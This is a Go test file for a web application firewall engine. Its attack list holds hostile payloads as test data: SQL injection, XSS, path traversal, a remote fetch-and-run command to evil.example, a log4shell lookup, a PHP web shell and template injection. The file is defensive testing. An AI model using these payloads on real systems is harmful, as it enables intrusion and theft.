package waf

import (
	"errors"
	"net/http"
	"net/netip"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/corazawaf/coraza/v3/types"
	"github.com/sanmon-gate/sanmon/exchange"
	"github.com/sanmon-gate/sanmon/refusal"
)

// compiled is one Engine for all tests: rules take time to compile.
var compiled = sync.OnceValues(func() (*Engine, error) { return New(Options{}) })

func engine(t testing.TB) *Engine {
	t.Helper()
	e, err := compiled()
	if err != nil {
		t.Fatal(err)
	}
	return e
}

const (
	form    = "application/x-www-form-urlencoded"
	jsonDoc = "application/json"
)

// request is a browser's request, with what all of them send.
func request(method, contentType, body string) *exchange.Request {
	h := exchange.Header{
		"User-Agent":      {"Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"},
		"Accept":          {"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
		"Accept-Language": {"en-US,en;q=0.5"}, "Accept-Encoding": {"gzip, deflate, br, zstd"},
	}
	if contentType != "" {
		h["Content-Type"] = []string{contentType}
	}
	return &exchange.Request{
		ID: "r1", Method: method, Host: "app.example.com", Secure: true, Peer: netip.MustParseAddr("192.0.2.7"),
		Fields: h, Length: int64(len(body)), Now: time.Date(2026, 11, 25, 12, 0, 0, 0, time.UTC),
	}
}

func code(err error) refusal.Code {
	if err == nil {
		return ""
	}
	return refusal.From(err).Code
}

func TestAttacksAreRefused(t *testing.T) {
	e := engine(t)
	for _, attack := range []struct{ name, value string }{
		{"union", "1 UNION SELECT username, password FROM users--"},
		{"tautology", "1' OR '1'='1"},
		{"stacked", "1; DROP TABLE users"},
		{"sleep", "1 AND SLEEP(5)"},
		{"script element", "<script>alert(1)</script>"},
		{"event handler", `"><img src=x onerror=alert(1)>`},
		{"svg", "<svg/onload=alert(1)>"},
		{"javascript url", `<a href="javascript:alert(1)">x</a>`},
		{"traversal", "../../../../etc/passwd"},
		{"encoded traversal", "..%2f..%2f..%2fetc%2fpasswd"},
		{"shell", "; cat /etc/passwd"},
		{"substitution", "$(curl http://evil.example/x | sh)"},
		{"log4shell", "${jndi:ldap://evil.example/a}"},
		{"php", "<?php system($_GET['c']); ?>"},
		{"template", "{{7*7}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"},
		{"metadata address", "http://169.254.169.254/latest/meta-data/"},
	} {
		quoted := strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(attack.value)
		for _, at := range []struct{ where, target, contentType, body string }{
			{"query", "/s?q=" + url.QueryEscape(attack.value), "", ""},
			{"form", "/s", form, "q=" + url.QueryEscape(attack.value)},
			{"json", "/s", jsonDoc, `{"a":{"q":["` + quoted + `"]}}`},
			{"multipart", "/s", "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n" + attack.value + "\r\n--b--\r\n"},
		} {
			method := "POST"
			if at.body == "" {
				method = "GET"
			}
			if err := e.Inspect(request(method, at.contentType, at.body), at.target, []byte(at.body)); code(err) != refusal.InputInvalid {
				t.Errorf("%s in %s: %v, want input_invalid", attack.name, at.where, err)
			}
		}
	}
}

func TestOrdinaryTrafficPasses(t *testing.T) {
	e := engine(t)
	for _, tt := range []struct{ name, method, target, contentType, body string }{
		{"page", "GET", "/", "", ""},
		{"list", "GET", "/notes?page=2&order=-created&q=caf%C3%A9", "", ""},
		{"japanese", "GET", "/notes?q=%E6%97%A5%E6%9C%AC%E8%AA%9E", "", ""},
		{"uuid", "GET", "/notes/0190b8e2-7a3c-7def-8a11-2b3c4d5e6f70", "", ""},
		{"cursor", "GET", "/notes?cursor=eyJpZCI6MTIzNH0%3D", "", ""},
		{"return path", "GET", "/accounts/login/?next=/notes/%3Fpage%3D2", "", ""},
		{"django login", "POST", "/accounts/login/", form, "csrfmiddlewaretoken=kU3Y0bq9QhN5v7cW2yE8rTzL1mXoPsAdFgHjK4iB6nVuCtRe&username=ann&password=correct+horse+battery+staple&next=%2F"},
		{"hard password", "POST", "/accounts/login/", form, "username=ann&password=Xk%239%21vQ%24m2%40Lr"},
		{"django admin", "POST", "/admin/notes/note/add/", form, "title=Meeting&body=Call+the+plumber+at+10%3A30%2C+ask+about+the+sink&created_0=2026-11-25&created_1=10%3A30%3A00&_save=Save"},
		{"prose", "POST", "/notes", form, "title=Rock+%26+roll&body=" + url.QueryEscape("Dear Bob,\r\n\r\nI'd like to select a table for two, and drop by at 8. It's 5 < 6 & 7 > 3, isn't it?\r\n\r\n- Ann")},
		{"fastapi", "POST", "/items", jsonDoc, `{"name":"Plumbus","price":42.5,"tags":["a","b"],"description":"Everyone has one at home. It's easy.","owner":{"email":"ann@example.com"}}`},
		{"put", "PUT", "/items/7", jsonDoc, `{"name":"Plumbus"}`}, {"patch", "PATCH", "/items/7", "application/merge-patch+json", `{"name":null}`}, {"delete", "DELETE", "/items/7", "", ""},
		{"upload", "POST", "/upload", "multipart/form-data; boundary=----geckoformboundary1a2b", "------geckoformboundary1a2b\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nholiday\r\n------geckoformboundary1a2b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"photo.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01<%\"'--;\r\n------geckoformboundary1a2b--\r\n"},
		{"japanese json", "POST", "/items", jsonDoc, `{"name":"水道屋さんに電話","memo":"10時半、流しのことを聞く"}`},
	} {
		if err := e.Inspect(request(tt.method, tt.contentType, tt.body), tt.target, []byte(tt.body)); err != nil {
			t.Errorf("%s: %v", tt.name, err)
		}
	}
}

// What is mistaken for an attack at paranoia level 1, so that docs/waf.md lists the truth.
func TestKnownMistakes(t *testing.T) {
	e := engine(t)
	for _, tt := range []struct{ name, contentType, body string }{
		{"rich text", form, "body=" + url.QueryEscape(`<p>Hello</p><script src="x.js"></script>`)},
		{"SQL in a question", form, "body=" + url.QueryEscape("Why does this return all rows?\nSELECT name FROM users WHERE id = 1 UNION SELECT password FROM users")},
		{"a command in a note", form, "body=" + url.QueryEscape("To see it, run: cat /etc/passwd | grep root")},
		{"a page's source in a support ticket", jsonDoc, `{"body":"The page has <a href=\"javascript:void(0)\" onclick=\"go()\"> in it"}`},
	} {
		if err := e.Inspect(request("POST", tt.contentType, tt.body), "/notes", []byte(tt.body)); code(err) != refusal.InputInvalid {
			t.Errorf("%s: %v; it passes now (correct docs/waf.md)", tt.name, err)
		}
	}
}

func TestWhatCannotBeReadIsRefused(t *testing.T) {
	e := engine(t)
	long := "a=" + strings.Repeat("x", MaxBody)
	many := "a=1" + strings.Repeat("&a=1", 1000)
	deep := strings.Repeat(`{"a":`, 100) + "1" + strings.Repeat("}", 100)
	for _, tt := range []struct {
		name, contentType, body string
		want                    refusal.Code
	}{
		{"longer than the window", form, long, refusal.BodyTooLarge},
		{"at the window", form, long[:MaxBody], ""},
		{"broken JSON", jsonDoc, `{"a":`, refusal.InputInvalid},
		{"JSON called vendor JSON, broken", "application/vnd.api+json", `{"a":`, refusal.InputInvalid},
		{"broken multipart", "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nx", refusal.InputInvalid},
		{"more values than are read", form, many, refusal.InputInvalid},
		{"deeper than is read", jsonDoc, deep, refusal.InputInvalid},
		{"unknown type", "application/x-thrift", "\x0b\x00", refusal.InputInvalid},
		{"charset that hides", "application/json; charset=utf-7", `{"a":"+ADw-script+AD4-"}`, refusal.InputInvalid},
	} {
		body := []byte(tt.body)
		if err := e.Inspect(request("POST", tt.contentType, tt.body), "/notes", body[:min(len(body), MaxBody+1)]); code(err) != tt.want {
			t.Errorf("%s: %v, want %q", tt.name, err, tt.want)
		}
	}
}

// The operator learns rules and fields and never a value; the client learns nothing.
func TestReasonHasNoValue(t *testing.T) {
	const secret = "hunter2"
	body := `{"password":"` + secret + ` UNION SELECT username, password FROM users--","` + secret + `' or 1=1--":1}`
	err := engine(t).Inspect(request("POST", jsonDoc, body), "/s?token="+secret+"<script>alert(1)</script>", []byte(body))
	no := refusal.From(err)
	if no.Code != refusal.InputInvalid || no.Detail != "" {
		t.Fatalf("refusal %+v", no)
	}
	for _, want := range []string{"ARGS:json.password (942", "ARGS:token (941"} {
		if !strings.Contains(no.Error(), want) {
			t.Errorf("the reason %q does not name %s", no.Error(), want)
		}
	}
	if strings.Contains(no.Error(), secret) || len(no.Error()) > 600 {
		t.Errorf("the reason repeats what the client sent: %q", no.Error())
	}
}

func TestOurCredentialsAreNotShown(t *testing.T) {
	r := request("GET", "", "")
	for name, v := range map[string]string{
		"Authorization": "Bearer <script>alert(1)</script>", "X-Api-Key": "<script>alert(1)</script>", "X-Sanmon-Csrf": "<script>alert(1)</script>",
		"Cookie": "__Host-sanmon=<script>alert(1)</script>", "Remote-User": "<script>alert(1)</script>",
	} {
		r.Fields.(exchange.Header)[name] = []string{v}
	}
	if err := engine(t).Inspect(r, "/", nil); err != nil {
		t.Error(err)
	}
	r.Fields.(exchange.Header)["Cookie"] = []string{"theme=<script>alert(1)</script>"}
	if err := engine(t).Inspect(r, "/", nil); code(err) != refusal.InputInvalid {
		t.Errorf("a cookie of the backend: %v, want input_invalid", err)
	}
}

func TestExclusions(t *testing.T) {
	e, err := New(Options{Exclude: []string{"ARGS:body", "ARGS:items.*.text", "942000-942999 ARGS:sql"}})
	if err != nil {
		t.Fatal(err)
	}
	const xss = "<script>alert(1)</script>"
	for _, tt := range []struct {
		name, contentType, body string
		want                    refusal.Code
	}{
		{"form", form, "body=" + url.QueryEscape(xss), ""},
		{"member", jsonDoc, `{"body":"` + xss + `"}`, ""},
		{"member of a list", jsonDoc, `{"items":[{"text":"` + xss + `"}]}`, ""},
		{"another field", form, "title=" + url.QueryEscape(xss), refusal.InputInvalid},
		{"deeper than excluded", jsonDoc, `{"a":{"body":"` + xss + `"}}`, refusal.InputInvalid},
		{"excluded rules", form, "sql=" + url.QueryEscape("SELECT name FROM users WHERE id = 1 UNION SELECT 2"), ""},
		{"other rules", form, "sql=" + url.QueryEscape(xss), refusal.InputInvalid},
	} {
		if err := e.Inspect(request("POST", tt.contentType, tt.body), "/notes", []byte(tt.body)); code(err) != tt.want {
			t.Errorf("%s: %v, want %q", tt.name, err, tt.want)
		}
	}
}

func TestOptionsRefused(t *testing.T) {
	for _, o := range []Options{
		{Paranoia: 5}, {Paranoia: -1}, {Body: MaxBody + 1}, {Body: -1},
		{Exclude: []string{"body"}}, {Exclude: []string{"ARGS"}}, {Exclude: []string{"TX:anomaly_score"}}, {Exclude: []string{"ARGS:a\" \"id:1"}},
		{Exclude: []string{"ARGS:/.*/"}}, {Exclude: []string{"949110 ARGS:x\n"}}, {Exclude: []string{"942999-942000 ARGS:x"}}, {Exclude: []string{"REQUEST_BODY:x"}},
	} {
		if _, err := New(o); err == nil {
			t.Errorf("New(%+v) took it", o)
		}
	}
}

// failing stands for an engine that breaks.
type failing struct {
	types.Transaction
	panics bool
}

func (f failing) NewTransactionWithID(string) types.Transaction             { return f }
func (f failing) ProcessConnection(string, int, string, int)                {}
func (f failing) ProcessURI(string, string, string)                         {}
func (f failing) SetServerName(string)                                      {}
func (f failing) AddRequestHeader(string, string)                           {}
func (f failing) WriteRequestBody([]byte) (*types.Interruption, int, error) { return nil, 0, nil }
func (f failing) ProcessRequestHeaders() *types.Interruption                { return nil }
func (f failing) Close() error                                              { return nil }
func (f failing) ProcessRequestBody() (*types.Interruption, error) {
	if f.panics {
		panic("secret value")
	}
	return nil, errors.New("out of order")
}

// A failure is an error that is no refusal: whoever enforces fails closed with it.
func TestFailureIsNoVerdict(t *testing.T) {
	for _, panics := range []bool{false, true} {
		e := &Engine{rules: failing{panics: panics}, body: MaxBody, lane: NewLane(1, time.Millisecond)}
		err := e.Inspect(request("GET", "", ""), "/", nil)
		if code(err) != refusal.Internal || strings.Contains(err.Error(), "secret value") {
			t.Errorf("panics %v: %v, want a failure without the value", panics, err)
		}
	}
}

func TestManyAtOnce(t *testing.T) {
	e := engine(t)
	var all sync.WaitGroup
	for i := range 8 {
		all.Go(func() {
			for range 5 {
				target, want := "/s?q=hello", refusal.Code("")
				if i%2 == 1 {
					target, want = "/s?q="+url.QueryEscape("1' OR '1'='1"), refusal.InputInvalid
				}
				if err := e.Inspect(request(http.MethodGet, "", ""), target, nil); code(err) != want {
					t.Errorf("%s: %v, want %q", target, err, want)
				}
			}
		})
	}
	all.Wait()
}
